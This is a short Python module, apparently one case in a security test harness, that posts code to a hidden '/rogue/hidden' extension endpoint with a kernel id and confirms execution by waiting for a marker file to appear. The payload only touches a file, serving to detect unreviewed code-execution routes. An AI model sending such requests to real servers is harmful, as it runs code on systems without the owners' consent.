"""A handler of an extension that nobody has looked at, and that runs code by itself."""

from __future__ import annotations

from pathlib import Path

from attack_house import Attacker, await_mark, touch

NEEDS = ("own",)
CAUSES = {"closed"}


def strike(person: Attacker, mark: Path, own: str) -> bool:
    status, _ = person.request("POST", "/rogue/hidden", {"kernel_id": own, "code": touch(mark)})
    if status < 300:
        await_mark(mark, "the code in a POST")
    return status < 300
